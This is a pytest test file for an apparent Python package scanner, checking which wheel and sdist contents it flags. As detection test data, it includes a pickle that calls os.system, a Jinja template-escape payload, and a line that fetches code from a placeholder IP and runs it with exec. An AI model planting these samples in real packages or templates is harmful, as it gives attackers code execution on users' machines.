"""What ordinary packages hold, in small: nothing of it keeps one out."""

# ruff: noqa: E501 - source inside source reads best as it is written

from __future__ import annotations

import hashlib

import pytest
from tests.samples.dists import sdist, wheel
from tests.samples.vetting import judged, report_on

from weighmaster.model.fact import Artifact, Reference
from weighmaster.model.finding import Severity
from weighmaster.model.report import Gap, GapReason, Item, Report
from weighmaster.model.verdict import Outcome
from weighmaster.model.where import Member, Where

_WHEEL = "kit-1.0-py3-none-any.whl"
_HANDLER = "import os\nclass Handler:\n    def run(self):\n        os.system('true')\n"


def _serious(files: dict[str, bytes | str]) -> set[str]:
    report = report_on(wheel("kit", "1.0", {"kit/__init__.py": ""} | files), _WHEEL)
    said = {finding.rule.id for finding in report.findings if finding.rule.severity >= Severity.MEDIUM}
    return said | {f"{gap.where}: {gap.detail}" for gap in report.gaps}


@pytest.mark.parametrize(
    "files",
    [
        pytest.param({"kit/__init__.py": f"{_HANDLER}run = Handler().run\n"}, id="a method is given a name"),
        pytest.param(
            {
                "kit/templates/base.html": "{% include 'menu.html' %}{{ url_for('x') }}{% for x in namespace %}{% endfor %}"
            },
            id="a page of Flask takes in another",
        ),
        pytest.param(
            {
                "kit/templates/base.html.j2": "{% from 'celltags.j2' import celltags %}{{ self.title() }}{% if loop.first %}{% endif %}"
            },
            id="a page of nbconvert",
        ),
        pytest.param(
            {
                "kit/admin/base.html": "{% load i18n %}<!DOCTYPE html>{% for message in messages %}{{ message.tags }}{% endfor %}"
            },
            id="a page of Django",
        ),
        pytest.param(
            {"kit/static/graph.js": "var a={{b:1}};{% if messages %}\u200b{% endif %}"},
            id="a script with unseen letters",
        ),
        pytest.param(
            {"kit/old.py": 'def f(tp, value, tb):\n    exec("""def g(tp, value, tb):\n    raise tp, value, tb\n""")\n'},
            id="text that Python 2 runs",
        ),
        pytest.param(
            {"kit/ole.py": "import os\n\nMAX = 0xFFFFFFFAL; # (-3)\n\ndef f():\n    return MAX\n"}, id="long numbers"
        ),
        pytest.param(
            {"kit/theme.toml": '[theme]\na = [\n    "b",\n]\n\n[options]\nfont = "x"\n'}, id="options of a theme"
        ),
        pytest.param(
            {"kit/search.xml": '<?xml version="1.0"?>\n<a>\n{% if x %}<b>{% else %}<b c="">{% endif %}</b>\n</a>\n'},
            id="a template of XML",
        ),
        pytest.param(
            {"kit/vs.in": '<?xml version="1.0"?>\n<!DOCTYPE plist SYSTEM "plist.dtd">\n<plist>\n<@x@/>\n</plist>\n'},
            id="XML with holes",
        ),
        pytest.param(
            {"kit/PARENT_DIRECTORY.rst": "PARENT_DIRECTORY\n----------------\n\nSource directory.\n"}, id="PARE"
        ),
        pytest.param(
            {"kit/tests/naughty.py": 'STRINGS = [\n    r"\u202a\u202atest\u202a",\n    "\u202btest\u202b",\n]\n'},
            id="letters of direction in a list",
        ),
        pytest.param(
            {
                "kit/db.py": 'import os\n"""\n    mysql://scott:tiger@192.168.0.134/test\n    https://user:12345@example.com/\n"""\n'
            },
            id="passwords of manuals",
        ),
        pytest.param(
            {
                "kit/show.py": 'def f():\n    """Show.\n\n    >>> f()\n    b\'\\x80\\x02]q\\x00(K\\x01X\\x01\\x00\\x00\\x00aq\\x01Ne.\'\n\n    """\n    import os\n    return os.getcwd()\n\n\n"""End."""\n'
            },
            id="a pickle shown in a docstring",
        ),
        pytest.param(
            {
                "kit/whois.py": "import subprocess\ndef f(name):\n    subprocess.run(['whois', name.encode().decode('idna')])\n",
            },
            id="a name of a host",
        ),
        pytest.param(
            {
                "kit/static/a.js": "const a = 1; const b = 2; const c = () => a; const d = () => b; "
                + "var e = 'x\x15y';" * 2
                + " " * 40_000
            },
            id="controls in a script",
        ),
        pytest.param(
            {
                "kit/_k.c": "#include <a.h>\n#include <b.h>\n#define A\n#endif\n"
                + "int a;\n" * 9000
                + "/* '\x08', '\x0b' */\n"
            },
            id="controls in C",
        ),
        pytest.param(
            {
                "kit/cluster.py": "import platform, subprocess\n_s = platform.uname().system\ndef f():\n    if _s == 'Windows':\n        subprocess.run(['x'])\n"
            },
            id="another system",
        ),
        pytest.param({"kit-1.0.dist-info/top_level.txt": "ipdb\n"}, id="a word that is a pickle"),
        pytest.param(
            {"kit/a.pfb": b"\x80\x01\x20\0\0\0%!PS-AdobeFont-1.0: A\n" + b"\x80\x02" + bytes(range(256)) * 20},
            id="a font",
        ),
        pytest.param(
            {
                "kit/loader.py": "",
                "kit/__init__.py": "import subprocess\nsubprocess.check_output(['/usr/sbin/sysctl', 'hw.optional.avx2_0'])\n",
            },
            id="what the processor can",
        ),
        pytest.param({"kit/models/idf.tab": b"\x01\x02\x07\x09" * 300 + b"\0"}, id="a table of its own"),
        pytest.param(
            {
                "kit/templates/collect.jinja": "{% include 'head.jinja' %}class {{ module.__name__ }}:\n    {% if loop.first %}pass{% endif %}\n"
            },
            id="a template of code",
        ),
        pytest.param(
            {"kit/pages.py": "#---\nPAGE = '{% if x.__class__ %}{% endif %}{{ self.a }}{% include y %}'\n"},
            id="a template in source",
        ),
        pytest.param(
            {"kit/__init__.py": "x = 1\n", "kit/a.csv": "const_p1,const_p2\n.73,.26\n.98,.01\n"},
            id="a table that is a pickle",
        ),
        pytest.param(
            {"kit/a.dtd": "<!-- A. -->\n<!ENTITY % p 'b'>\n<!ELEMENT a (%p;)>\n<!ATTLIST a c CDATA #IMPLIED>\n"},
            id="a document type",
        ),
        pytest.param(
            {"kit/__init__.py": "import yaml\nwith open('/etc/kit') as f:\n    yaml.load(f, Loader=yaml.SafeLoader)\n"},
            id="plain YAML",
        ),
        pytest.param(
            {"kit/__main__.py": "import subprocess\nsubprocess.run(['xclip', '-o'])\n"}, id="a program of the package"
        ),
        pytest.param({"kit/new.py": "exec('def f[T](a: T) -> T:\\n    return a')\n"}, id="younger text that is run"),
        pytest.param(
            {
                "kit/where.py": "NAME = '/var/run/secrets/kubernetes.io/serviceaccount/namespace'\nwith open(NAME) as f:\n    N = f.read()\n"
            },
            id="the name of a cluster's part",
        ),
        pytest.param(
            {
                "kit/LICENSE": "Copyright (C) 1995 Jean and Mark\n\n"
                "This software is provided 'as-is', without any express or\nimplied warranty. In no event will the authors be\n"
                "liable for any damages arising from the use of it.\n"
            },
            id="a licence that is a pickle",
        ),
        pytest.param(
            {"kit/__init__.py": "import subprocess\nsubprocess.run(['git', 'rev-list', '--tags', '--max-count=1'])\n"},
            id="a version",
        ),
        pytest.param(
            {
                "kit/test/test_old.py": "import pickle\npickle.loads(b'ckit.styles\\nOldThing\\nq\\x01)Rq\\x02.' + b'' * 40)\n"
            },
            id="a pickle in a test",
        ),
        pytest.param(
            {
                "kit/wrap/setup.py.jinja": "import subprocess\nfrom setuptools import setup\nsubprocess.check_call(['x', 'y'])\nsetup()\n"
            },
            id="a setup script that is written later",
        ),
        pytest.param(
            {"kit/__init__.py": "exec_ = __builtins__['exec']\nexec_('def f(a, b):\\n    raise a from b')\n"},
            id="text that is run so",
        ),
        pytest.param(
            {"kit/docs/box.rst": "Use::\n\n    {{ f.__code__.co_code }}\n\n{% if x %}{{ self }}{% endif %}\n"},
            id="a manual",
        ),
        pytest.param(
            {
                "kit/static/b.js": "!function(){"
                + "a.b.c;" * 400
                + "}();var dependencies=[project],tool={};[build-system];"
                + "x.y" * 90
            },
            id="a script of many dots",
        ),
        pytest.param(
            {"kit/__init__.py": "import subprocess\nsubprocess.check_output(['pg_config', '--libdir'])\n"},
            id="where a library lies",
        ),
        pytest.param({"kit/static/core.wasm": b"\0asm\1\0\0\0" + bytes(64)}, id="WebAssembly in a page"),
    ],
)
def test_nothing_serious_is_said_of_it(files: dict[str, bytes | str]) -> None:
    assert not _serious(files)


@pytest.mark.parametrize(
    "last",
    [
        "run = Handler().run\nrun()\n",
        "import threading\nthreading.Thread(target=Handler().run).start()\n",
        "import atexit\natexit.register(Handler().run)\n",
        "[one() for one in [Handler().run]]\n",
        "class Other(Handler):\n    @property\n    def now(self):\n        self.run()\nOther().now\n",
    ],
)
def test_methods_that_run_when_a_package_is_imported_are_told(last: str) -> None:
    assert "acts-on-import" in _serious({"kit/__init__.py": _HANDLER + last})


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("collect.jinja", "{% include 'menu.html' %}{% for message in messages %}{{ message['role'] }}{% endfor %}"),
        ("tool_use.jinja", "{% include 'menu.html' %}{% if tools %}{% endif %}"),
        ("chat_template.jinja", "{% include 'menu.html' %}{% for message in messages %}{% endfor %}"),
        ("page.html", "{% include 'menu.html' %}{{ messages[0]['content'] }}"),
        ("page.html", "{% include 'menu.html' %}{{ bos_token }}{% for message in messages %}{% endfor %}"),
    ],
)
def test_templates_of_conversations_are_held_to_more_than_pages(name: str, text: str) -> None:
    assert "template-may-escape" in _serious({f"kit/{name}": text})


def test_what_reaches_for_python_is_told_of_a_page_too() -> None:
    page = "<p>{% for x in ().__class__.__base__.__subclasses__() %}{{ x.__init__.__globals__ }}{% endfor %}"
    assert "template-escapes" in _serious({"kit/page.html.jinja": page})


@pytest.mark.parametrize("command", ["awk '{(}'", "{0.__class__}", "{", "}{", "{}"])
def test_braces_in_a_command_are_words_like_others(command: str) -> None:
    files: dict[str, bytes | str] = {
        "kit/__init__.py": f"import os\nos.system({command!r})\n",
        "kit/later.py": f"import subprocess\ndef f():\n    subprocess.run({command!r} + __import__('base64').b64decode(x))\n",
    }
    said = _serious(files)
    assert "source-can-harm" in said
    assert said & {"acts-on-import", "source-reaches-out-on-import"}
    assert len(said) == 2


def test_a_record_in_hexadecimal_is_held_to_what_it_says() -> None:
    body = b"x = 1\n"
    right, wrong = hashlib.sha256(body).hexdigest(), hashlib.sha256(b"").hexdigest()
    for digest, told in ((right, False), (wrong, True)):
        data = wheel(
            "kit", "1.0", {"kit/__init__.py": body}, record={"kit/__init__.py": f"sha256={digest},{len(body)}"}
        )
        assert ("record-differs" in {finding.rule.id for finding in report_on(data, _WHEEL).findings}) == told


@pytest.mark.parametrize(("folder", "size", "gaps"), [("a.zip", 100, 0), ("b.zip", 100, 1), ("a.zip", 100 << 20, 1)])
def test_numbers_that_a_model_names_are_known_in_an_archive_too(folder: str, size: int, gaps: int) -> None:
    index = Where.file("a.zip") / Member(name="m/x.index")
    data = Where.file(folder) / Member(name="m/x.data")
    items: list[Item] = [
        Artifact(where=data, size=size, sha256="", formats=()),
        Reference(where=index, kind="external-data", target="x.data", by="tensorflow", needs=100),
        Gap(where=data, reason=GapReason.UNKNOWN_FORMAT, detail="no reader knows these bytes"),
    ]
    assert len(Report.of("t", items, files=1).gaps) == gaps


def test_a_pickle_that_chance_made_is_none_and_one_that_names_what_it_calls_is() -> None:
    table = bytes(range(1, 256)) * 40 + b"\0\x01\x02"
    assert not _serious({"kit/a.tab": table + b"\x80\x04\x88\x89\x93\x88\x81" + table})
    harm = b"\x80\x02cos\nsystem\nX\x04\0\0\0true\x85R."
    assert "dangerous-import" in _serious({"kit/a.tab": table + harm + table})


def _installs(condition: str) -> bool:
    script = f"import os, sys\nfrom setuptools import setup\nif {condition}:\n    os.system('twine upload dist/*')\nsetup()\n"
    report = report_on(sdist("kit", "1.0", {"setup.py": script}), "kit-1.0.tar.gz")
    return "acts-on-install" in {finding.rule.id for finding in report.findings}


@pytest.mark.parametrize("condition", ["sys.argv[-1] == 'publish'", "'upload' in sys.argv"])
def test_what_only_who_looks_after_a_project_asks_for_is_done_by_no_installation(condition: str) -> None:
    assert not _installs(condition)


@pytest.mark.parametrize(
    "condition",
    ["sys.argv[-1] == 'install'", "'publish' in sys.argv[0]", "len(sys.argv) > 1", "'publish' not in sys.argv"],
)
def test_what_an_installation_may_ask_for_is_told(condition: str) -> None:
    assert _installs(condition)


def test_a_compiler_that_a_variable_names_waits_for_a_person_and_blocks_nobody() -> None:
    script = (
        "import os, subprocess\nfrom setuptools import setup\nsubprocess.Popen(os.environ['XML2_CONFIG'])\nsetup()\n"
    )
    report = report_on(sdist("kit", "1.0", {"setup.py": script}), "kit-1.0.tar.gz")
    assert judged(report) is Outcome.REVIEW


@pytest.mark.parametrize(
    ("deeper", "outcome"),
    [
        ("import ctypes\nlibc = ctypes.CDLL('libc.so.6')\n", Outcome.ALLOW),
        ("import os\nos.system('true')\n", Outcome.BLOCK),
        ("import requests\nexec(requests.get('http://203.0.113.7/x').text)\n", Outcome.BLOCK),
    ],
)
def test_what_a_plug_in_imports_in_turn_is_the_library_that_it_belongs_to(deeper: str, outcome: Outcome) -> None:
    files = {"kit/__init__.py": "from kit import core\n", "kit/core.py": deeper, "kit/plugin.py": "import kit\n"}
    data = wheel("kit", "1.0", files, entry_points="[pytest11]\nkit = kit.plugin\n")
    assert judged(report_on(data, "kit-1.0-py3-none-any.whl")) is outcome
